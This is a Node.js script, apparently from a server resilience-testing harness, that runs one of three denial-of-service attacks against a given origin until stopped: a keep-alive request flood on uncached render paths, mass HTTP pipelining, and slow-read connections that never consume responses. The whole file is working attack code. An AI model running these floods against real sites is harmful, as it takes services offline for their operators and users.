// Runs one attack on a site until the process is ended. It is a separate process, so that it takes no
// processor time from the one that measures.
import { Agent, get } from 'node:http';
import { connect } from 'node:net';

/** Milliseconds before a closed connection is opened again. */
const PAUSE = 20;

const [, , name = '', origin = ''] = process.argv;
const { hostname, port } = new URL(origin);

let asked = 0;
/** An address that was not requested before, so that the server has to render it. */
const rendered = () => `/web?callbackUrl=/faqs&n=${(asked += 1)}`;

/**
 * Each connection sends its next request as soon as it has received a response.
 * @param {number} connections
 */
function flood(connections) {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  const ask = () => {
    const again = () => setTimeout(ask, PAUSE);
    get({ hostname, port, agent, path: rendered() }, (response) => response.resume().on('end', ask)).on(
      'error',
      again,
    );
  };
  for (let i = 0; i < connections; i += 1) ask();
}

/**
 * Each connection sends all its requests at once; when it is closed, a new one replaces it.
 * @param {{ connections: number, requests: number, path: () => string, reads: boolean }} attack
 */
function pipeline({ connections, requests, path, reads }) {
  const open = () => {
    const words = Array.from(
      { length: requests },
      () => `GET ${path()} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`,
    );
    const socket = connect(Number(port), hostname, () => socket.write(words.join('')));
    socket.on('error', () => {}).on('close', () => setTimeout(open, PAUSE));
    if (reads) socket.resume();
    else socket.pause();
  };
  for (let i = 0; i < connections; i += 1) open();
}

/** @type {Record<string, () => void>} */
const ATTACKS = {
  flood: () => flood(200),
  pipeline: () => pipeline({ connections: 1, requests: 1_500, path: rendered, reads: true }),
  deaf: () => pipeline({ connections: 250, requests: 1_500, path: () => '/', reads: false }),
};

ATTACKS[name]?.();
